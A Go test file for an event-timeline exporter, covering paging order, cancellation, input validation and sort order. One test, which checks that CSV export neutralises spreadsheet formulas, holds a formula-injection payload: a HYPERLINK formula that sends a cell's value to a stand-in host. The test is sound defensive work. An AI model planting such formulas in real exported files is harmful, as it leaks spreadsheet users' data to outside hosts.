package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/geotimeline/geotimeline/db"
	"github.com/geotimeline/geotimeline/db/export"
	"github.com/geotimeline/geotimeline/db/sqlite"
)

// pagedStore holds n events, more than a page, three to a day so that
// instants tie and the keyset's key decides: the order and the completeness
// of an export across pages are known by construction.
func pagedStore(t *testing.T, n int) *sqlite.Store {
	t.Helper()
	ctx := context.Background()
	store, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "paged.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	b := &db.Batch{Actors: []db.Actor{{Key: "india", Name: "India", Kind: db.ActorState, Country: "IN"}}}
	start := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	lat, lon := 28.6, 77.2
	for i := range n {
		b.Events = append(b.Events, db.Event{Key: fmt.Sprintf("ev-%04d", n-1-i), Type: db.EventMeeting, Title: "meeting",
			OccurredAt:   db.Date{At: start.AddDate(0, 0, i/3), Precision: db.PrecisionDay},
			Location:     db.Location{Lat: &lat, Lon: &lon},
			Participants: []db.Participant{{Actor: "india", Role: db.RoleParticipant}}})
	}
	if _, err := store.Apply(ctx, b, nil); err != nil {
		t.Fatal(err)
	}
	return store
}

// wantKeys is the timeline order of pagedStore's events: by day, then key.
func wantKeys(n int) []string {
	var out []string
	for day := 0; day*3 < n; day++ {
		var keys []string
		for i := day * 3; i < min(day*3+3, n); i++ {
			keys = append(keys, fmt.Sprintf("ev-%04d", n-1-i))
		}
		for j := len(keys) - 1; j >= 0; j-- { // keys fall within a day
			out = append(out, keys[j])
		}
	}
	return out
}

func TestWriteAcrossPages(t *testing.T) {
	const n = 2*export.PageSize + 101
	store := pagedStore(t, n)
	var buf bytes.Buffer
	if err := export.Write(context.Background(), store, export.CSV, db.TimelineFilter{}, db.Ascending, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := wantKeys(n)
	if len(rows) != n+1 {
		t.Fatalf("%d rows, want %d and a header", len(rows)-1, n)
	}
	for i, r := range rows[1:] {
		if r[0] != want[i] {
			t.Fatalf("row %d is %s, want %s", i, r[0], want[i])
		}
	}

	buf.Reset()
	if err := export.Write(context.Background(), store, export.GEXF, db.TimelineFilter{}, db.Ascending, &buf); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Nodes []struct {
			ID string `xml:"id,attr"`
		} `xml:"graph>nodes>node"`
		Edges []struct {
			Source string `xml:"source,attr"`
		} `xml:"graph>edges>edge"`
	}
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	// Every event, India and its country; a participation edge per event
	// and India's affiliation.
	if len(doc.Nodes) != n+2 || len(doc.Edges) != n+1 || doc.Nodes[n].ID != "actor:india" || doc.Nodes[n+1].ID != "country:IN" ||
		doc.Nodes[n-1].ID != "event:"+want[n-1] || doc.Edges[n-1].Source != "event:"+want[n-1] {
		t.Errorf("%d nodes and %d edges, want %d and %d", len(doc.Nodes), len(doc.Edges), n+2, n+1)
	}
}

// cancelAfter cancels the export's context on its first write: what a
// client going away or a deadline passing does half-way.
type cancelAfter struct {
	cancel context.CancelFunc
	n      int
}

func (c *cancelAfter) Write(p []byte) (int, error) {
	c.n += len(p)
	c.cancel()
	return len(p), nil
}

func TestWriteStopsHalfWay(t *testing.T) {
	store := pagedStore(t, 3*export.PageSize)
	for _, format := range export.Formats {
		ctx, cancel := context.WithCancel(context.Background())
		w := &cancelAfter{cancel: cancel}
		err := export.Write(ctx, store, format, db.TimelineFilter{}, db.Ascending, w)
		if !errors.Is(err, context.Canceled) {
			t.Errorf("%s: cancelled half-way, Write returned %v after %d bytes; want context.Canceled", format, err, w.n)
		}
		cancel()
	}
}

func TestWriteRefusesUnknownActorBeforeWriting(t *testing.T) {
	store := pagedStore(t, 3)
	var buf bytes.Buffer
	for _, format := range export.Formats {
		buf.Reset()
		err := export.Write(context.Background(), store, format, db.TimelineFilter{Actors: []string{"inda"}}, db.Ascending, &buf)
		if db.ErrorCode(err) != db.CodeInvalid || err.Error() != `unknown actor "inda": did you mean "india"?` || buf.Len() != 0 {
			t.Errorf("%s: %v, %d bytes written; want BAD_USER_INPUT with the hint and nothing written", format, err, buf.Len())
		}
	}
}

// TestCSVGuardsFormulas checks that free text that a spreadsheet would run
// as a formula is written as text, and that numbers are not touched.
func TestCSVGuardsFormulas(t *testing.T) {
	ctx := context.Background()
	store, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "formulas.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	intensity := -7.0
	b := &db.Batch{Events: []db.Event{{Key: "e1", Type: db.EventProtest, Title: `=HYPERLINK("http://x.example/?"&A1,"click")`,
		Summary: "+1 more", OccurredAt: db.Date{At: time.Date(2024, 1, 2, 0, 0, 0, 0, time.UTC), Precision: db.PrecisionDay},
		Location: db.Location{Place: "@SUM(1+1)"}, Intensity: &intensity, Tags: []string{"-x", "y"}}}}
	if _, err := store.Apply(ctx, b, nil); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := export.Write(ctx, store, export.CSV, db.TimelineFilter{}, db.Ascending, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]string{}
	for i, name := range rows[0] {
		col[name] = rows[1][i]
	}
	for name, want := range map[string]string{"title": `'=HYPERLINK("http://x.example/?"&A1,"click")`, "summary": "'+1 more",
		"place": "'@SUM(1+1)", "tags": "'-x;y", "intensity": "-7", "key": "e1"} {
		if col[name] != want {
			t.Errorf("%s = %q, want %q", name, col[name], want)
		}
	}
}

// Newest first, across pages, the rows are those of oldest first reversed.
func TestWriteNewestFirst(t *testing.T) {
	const n = 2*export.PageSize + 101
	store := pagedStore(t, n)
	var buf bytes.Buffer
	if err := export.Write(context.Background(), store, export.CSV, db.TimelineFilter{}, db.Descending, &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := wantKeys(n)
	slices.Reverse(want)
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[0])
	}
	if !slices.Equal(got, want) {
		t.Errorf("newest first: %d rows, want %d; first %v, want %v", len(got), len(want), got[:3], want[:3])
	}
}

func TestParseOrder(t *testing.T) {
	for value, want := range map[string]db.SortOrder{"": db.Ascending, "asc": db.Ascending, "DESC": db.Descending, "desc": db.Descending} {
		got, err := export.ParseOrder(func(string) string { return value })
		if err != nil || got != want {
			t.Errorf("ParseOrder(%q) = %q, %v; want %q", value, got, err, want)
		}
	}
	_, err := export.ParseOrder(func(string) string { return "newest" })
	if want := `order: "newest" is not asc or desc`; err == nil || !strings.Contains(err.Error(), want) || db.ErrorCode(err) != db.CodeInvalid {
		t.Errorf("ParseOrder(newest): %v; want BAD_USER_INPUT %q", err, want)
	}
}
